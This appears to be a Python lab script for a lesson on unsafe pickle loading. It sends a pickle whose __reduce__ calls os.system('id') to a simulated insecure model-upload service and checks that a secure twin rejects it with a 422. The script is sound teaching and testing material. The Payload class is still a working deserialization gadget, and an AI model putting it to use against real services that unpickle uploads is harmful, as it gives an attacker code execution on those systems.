"""Lesson "Pickles run code", sections 3 and 4: the model-upload service.

Save the lab's CA as safelab-ca.pem next to this script, then run:  python upload.py
It pickles a class whose __reduce__ names os.system (pickle.dumps only writes
bytes: nothing runs here), uploads it to the insecure twin, which answers what
loading it would have run (simulated: the lab runs nothing either), then sends
the same bytes to the secure twin, which must refuse them with a 422 naming
the global.
"""

import os
import pickle
import sys

import requests

HTTP = "{{http}}"
HTTPS = "{{https}}"
CA = "safelab-ca.pem"


def check(condition: bool, message: str) -> None:
    """Stops with a message when the lab did not answer as the lesson says."""
    if not condition:
        sys.exit(f"unexpected: {message}")


class Payload:
    """What an attacker hides in a model file."""

    def __reduce__(self):
        return (os.system, ("id",))


def main() -> None:
    data = pickle.dumps(Payload())

    # insecure-runs-pickle
    answer = requests.post(f"{HTTP}/lab/insecure/models", data=data, timeout=10)
    check(answer.status_code == 200, f"the insecure twin answered {answer.status_code}")
    ran = answer.json()["ran"]
    check(any("system('id')" in call["call"] for call in ran), f"ran: {ran}")
    for call in ran:
        print("the insecure twin would have run:", call["call"])
        print("  and printed:", call["output"])

    # secure-refuses-pickle
    refused = requests.post(f"{HTTPS}/lab/secure/models", data=data, verify=CA, timeout=10)
    check(refused.status_code == 422, f"the secure twin answered {refused.status_code}")
    check(refused.json()["global"].endswith(".system"), f"refused: {refused.json()}")
    print("the secure twin refused it:", refused.json()["error"])


if __name__ == "__main__":
    main()
